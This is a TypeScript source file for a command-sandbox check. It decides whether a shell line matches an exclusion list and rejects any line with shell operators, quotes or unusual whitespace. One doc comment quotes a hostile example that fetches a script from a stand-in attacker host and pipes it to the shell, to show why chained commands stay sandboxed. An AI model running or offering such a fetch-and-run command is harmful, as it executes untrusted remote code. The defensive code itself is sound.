/** Characters with which a line runs more than one command, or a command it does not name. */
const shellOperators = /[;&|<>`$(){}\n\r\\*?[\]!#~'"]/u

/**
 * A line bash splits as this check does: printable ASCII words separated by spaces and tabs, the
 * only blanks bash splits words on. Any other character (`\v`, `\f`, NBSP, U+2028, a BOM, a
 * control character) is part of a word to bash though JavaScript's `\s` counts it as a blank, so a
 * line holding one is never excluded: it runs sandboxed.
 */
const plainLine = /^[\x20-\x7e\t]*$/u

/**
 * Whether `command` is one of `sandbox.excludedCommands` (SPEC §23): an entry `docker` matches
 * `docker` alone and with arguments, `docker *` and `docker:*` the same; `npm run lint` matches
 * that prefix. Only a line with no shell operators, quotes or expansions can match — `docker ps;
 * curl evil.sh | sh` runs sandboxed, never outside on the strength of its first word. Words are
 * split as bash splits them, on spaces and tabs only; a line with any other character runs
 * sandboxed.
 */
export function isExcludedCommand(command: string, excluded: readonly string[]): boolean {
  if (excluded.length === 0) return false
  if (!plainLine.test(command)) return false
  const line = command.replace(/^[ \t]+|[ \t]+$/gu, '').replace(/[ \t]+/gu, ' ')
  if (line === '' || shellOperators.test(line)) return false
  return excluded.some((entry) => {
    const prefix = entry
      .replace(/(?::\*| \*)$/u, '')
      .replace(/^[ \t]+|[ \t]+$/gu, '')
      .replace(/[ \t]+/gu, ' ')
    return prefix !== '' && (line === prefix || line.startsWith(`${prefix} `))
  })
}
